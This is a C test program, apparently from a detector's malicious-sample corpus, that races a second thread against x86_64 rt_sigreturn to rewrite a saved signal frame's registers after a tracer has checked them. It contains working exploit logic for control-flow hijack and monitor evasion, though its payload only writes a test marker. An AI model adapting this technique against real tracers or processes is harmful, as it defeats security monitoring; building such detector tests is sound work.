/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_toctou: a second thread rewrites a genuine signal frame while its thread is inside
 * rt_sigreturn: after a tracer read the frame at the syscall entry, before the kernel copies it.
 *
 * The window. x86_64 rt_sigreturn reads uc_sigmask and uc_flags, applies the mask with
 * set_current_blocked() - which takes the process's sighand->siglock - and only then copies the
 * registers (restore_sigcontext). A tracer's sys_enter hook reads the frame before all that. So
 * if another thread of the process holds siglock when the sigreturning thread gets there, that
 * thread waits inside the syscall, its frame already read by the tracer, not yet by the kernel.
 * The racer holds siglock the ordinary way: rt_sigtimedwait() walks the thread's whole queue of
 * pending signals under siglock (collect_signal), and the racer keeps TOCTOU_FILLERS (2000)
 * queued real-time signals pending (blocked, never taken) to make that walk long (tens to
 * hundreds of microseconds). Nothing else is widened or slowed.
 *
 * The write. rt_sigtimedwait() returns the signal it took by copying its siginfo to a user
 * buffer right after dropping siglock, at the moment the other thread is let go. The racer
 * queues itself (rt_tgsigqueueinfo, allowed to oneself with any payload) a signal whose siginfo
 * carries, from byte 4 on, a copy of the frame's rax..ss slots with rip = &mal_pwned, and points
 * rt_sigtimedwait's siginfo buffer at the frame's saved rax: the kernel's copy_siginfo_to_user()
 * overwrites rax (low half: si_signo), rcx, rsp, rip, eflags, cs/gs/fs/ss, and zeroes err,
 * trapno, oldmask, cr2, fpstate (0: "clear the FP state") and part of reserved1. The write races
 * the woken thread's copy of the registers: won, the kernel restores rip = mal_pwned, which writes
 * the marker and exits 0; lost, the original context comes back and the next round starts.
 *
 * Rounds: the main thread sends itself SIGUSR1; the handler runs on a sigaltstack of its own (so
 * a late write only lands in a dead frame), publishes its ucontext and returns normally through
 * the libc restorer; the racer, on another CPU, sees the publication and calls rt_sigtimedwait
 * at once, re-queues the payload signal, and acknowledges; the main thread waits for the
 * acknowledgement before the next round. Budget: TOCTOU_ROUNDS (100000) or TOCTOU_SECONDS (20);
 * exit 3 when it runs out. Needs 2 CPUs (exit 77 with fewer): the racer must run while the other
 * thread waits for the lock.
 *
 * Expected from sigscope (hooks full): toctou (high): the registers the kernel applied differ from
 * the frame read at entry (mismatch rip, rax, ...). If the main thread is so late (preempted
 * before its syscall) that the racer's write lands before the tracer's read, sigscope sees at
 * entry a rip moved into the program's own text: tampered_context (low) instead, which
 * --enforce=high lets through; tests/corpus/run_malicious.py tells the two apart from the events.
 * Modes enter and light judge the frame as read at entry: they cannot see this attack at all.
 *
 * Measured on a busy 2-CPU VM: untraced, won in 20 of 20 runs (at round 3 in 17); under sigscope
 * (hooks full), 19 of 20 wins were a TOCTOU, 1 landed before the read. Without the siglock
 * holding, by timing a plain store alone, only about 1 win in 3 was a TOCTOU there: the jitter
 * before the tracer's read is far wider than the few hundred cycles between its read and the
 * kernel's copy.
 */
#include "mal.h"

#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/resource.h>
#include <time.h>
#include <ucontext.h>

/* Where rt_sigtimedwait's siginfo goes: the saved rax, 104 bytes into struct sigcontext. The
 * kernel writes 48 bytes of siginfo (the first 4 are si_signo) and zeroes the next 80. */
#define INFO_AT	     offsetof(struct k_sigcontext64, rax)
#define INFO_WRITTEN 48
#define INFO_ZEROED  80
_Static_assert(INFO_AT + 4 <= offsetof(struct k_sigcontext64, rip), "rip after si_signo");
_Static_assert(INFO_AT + INFO_WRITTEN >= offsetof(struct k_sigcontext64, err),
	       "cs and ss are written, not zeroed");

static char handler_stack[65536] __attribute__((aligned(64)));
static _Atomic(ucontext_t *) frame_uc;
static atomic_uint seq;
static atomic_uint ack;
static atomic_int stop;
static atomic_int racer_ready;
static volatile unsigned long round_no;
static int cpus[2] = {-1, -1};
static pid_t pid;
static int sig_filler, sig_payload;
static unsigned long fillers;
static siginfo_t payload;
static int have_payload;

static void handler(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	atomic_store_explicit(&frame_uc, (ucontext_t *)ucv, memory_order_relaxed);
	atomic_fetch_add_explicit(&seq, 1, memory_order_release);
}

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		mal_say("cannot pin to CPU %d: %s (racing unpinned)", cpu, strerror(errno));
}

/* Queue a real-time signal to the calling thread, with this payload after si_signo. */
static int queue_self(pid_t tid, int sig, const siginfo_t *pl)
{
	siginfo_t si;

	memset(&si, 0, sizeof(si));
	if (pl)
		memcpy(&si, pl, sizeof(si));
	si.si_signo = sig;
	if (!pl)
		si.si_code = SI_QUEUE;
	return (int)syscall(SYS_rt_tgsigqueueinfo, pid, tid, sig, &si);
}

/* The payload, from a genuine frame: its rax..ss slots as they are, but rip = &mal_pwned. */
static void make_payload(const ucontext_t *uc)
{
	const unsigned char *sc = (const unsigned char *)&uc->uc_mcontext;
	unsigned char *p = (unsigned char *)&payload;
	uint64_t rip = (uint64_t)mal_pwned;

	memset(&payload, 0, sizeof(payload));
	memcpy(p, sc + INFO_AT, INFO_WRITTEN);
	memcpy(p + offsetof(struct k_sigcontext64, rip) - INFO_AT, &rip, sizeof(rip));
	/* si_code (bytes 8..11) is the saved rcx's low half: any is fine when queued to oneself. */
}

static void *racer(void *arg)
{
	struct timespec zero = {0, 0};
	pid_t tid = (pid_t)syscall(SYS_gettid);
	unsigned last = 0;
	sigset_t set, wait_set;

	(void)arg;
	pin(cpus[1]);
	sigemptyset(&set);
	sigaddset(&set, sig_filler);
	sigaddset(&set, sig_payload);
	pthread_sigmask(SIG_BLOCK, &set, NULL);
	for (unsigned long i = 0; i < fillers; i++) {
		if (queue_self(tid, sig_filler, NULL)) {
			mal_say("could queue only %lu filler signals: %s", i, strerror(errno));
			fillers = i;
			break;
		}
	}
	sigemptyset(&wait_set);
	sigaddset(&wait_set, sig_payload);
	atomic_store(&racer_ready, 1);
	for (;;) {
		ucontext_t *uc;
		unsigned s;

		while ((s = atomic_load_explicit(&seq, memory_order_acquire)) == last) {
			if (atomic_load_explicit(&stop, memory_order_relaxed))
				return NULL;
		}
		last = s;
		uc = atomic_load_explicit(&frame_uc, memory_order_relaxed);
		if (have_payload) {
			/* Holds siglock for the walk, then writes the payload over the frame. */
			if (syscall(SYS_rt_sigtimedwait, &wait_set,
				    (char *)&uc->uc_mcontext + INFO_AT, &zero, 8) != sig_payload)
				mal_die(MAL_EXIT_SETUP, "rt_sigtimedwait");
		} else {
			make_payload(uc); /* first round: learn the frame, write nothing */
			have_payload = 1;
		}
		if (queue_self(tid, sig_payload, &payload))
			mal_die(MAL_EXIT_SETUP, "rt_tgsigqueueinfo");
		atomic_store_explicit(&ack, s, memory_order_release);
	}
}

static void report_win(void)
{
	mal_say("race won at round %lu", round_no + 1);
}

static unsigned long env_ul(const char *name, unsigned long dflt)
{
	const char *v = getenv(name);

	return v && *v ? strtoul(v, NULL, 0) : dflt;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(void)
{
	unsigned long max_rounds = env_ul("TOCTOU_ROUNDS", 100000);
	double seconds = (double)env_ul("TOCTOU_SECONDS", 20), t_start;
	stack_t ss = {.ss_sp = handler_stack, .ss_size = sizeof(handler_stack), .ss_flags = 0};
	struct sigaction sa;
	struct rlimit rl;
	cpu_set_t allowed;
	pthread_t th;
	pid_t tid;
	int n = 0;

	mal_init("srop_toctou", (unsigned)seconds + 15);
	/* Two CPUs of the allowed set: the main thread on one, the racer on the other. */
	if (sched_getaffinity(0, sizeof(allowed), &allowed) == 0) {
		for (int c = 0; c < CPU_SETSIZE && n < 2; c++)
			if (CPU_ISSET(c, &allowed))
				cpus[n++] = c;
	}
	if (n < 2) {
		mal_say(
		    "skip: fewer than 2 CPUs, the racer cannot run while the other thread waits");
		return MAL_EXIT_SKIP;
	}
	pin(cpus[0]);
	sig_filler = SIGRTMIN + 2; /* glibc keeps SIGRTMIN's first ones for itself */
	sig_payload = SIGRTMIN + 3;
	fillers = env_ul("TOCTOU_FILLERS", 2000);
	/* The queue counts against RLIMIT_SIGPENDING: stay well inside it. */
	if (getrlimit(RLIMIT_SIGPENDING, &rl) == 0 && rl.rlim_cur != RLIM_INFINITY &&
	    fillers + 64 > rl.rlim_cur)
		fillers = rl.rlim_cur > 128 ? rl.rlim_cur - 128 : 0;
	mal_on_success = report_win;
	/* The frames go on this altstack (it replaces the crash handler's: same role). */
	if (sigaltstack(&ss, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaltstack");
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = handler;
	sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGUSR1, &sa, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaction");
	pid = getpid();
	tid = (pid_t)syscall(SYS_gettid);
	if (pthread_create(&th, NULL, racer, NULL))
		mal_die(MAL_EXIT_SETUP, "pthread_create");
	while (!atomic_load(&racer_ready))
		;
	mal_say("racing on CPUs %d and %d, %lu signals queued to hold siglock", cpus[0], cpus[1],
		fillers);
	t_start = now_s();
	for (round_no = 0; round_no < max_rounds; round_no++) {
		unsigned s;

		if (syscall(SYS_tgkill, pid, tid, SIGUSR1))
			mal_die(MAL_EXIT_SETUP, "tgkill");
		/* Still here: the kernel restored the original context, the race was lost. */
		s = atomic_load_explicit(&seq, memory_order_acquire);
		while (atomic_load_explicit(&ack, memory_order_acquire) != s)
			;
		if ((round_no & 63) == 63 && now_s() - t_start > seconds)
			break;
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	mal_say("race never won: %lu rounds in %.1f s", round_no, now_s() - t_start);
	return MAL_EXIT_NOTHING;
}
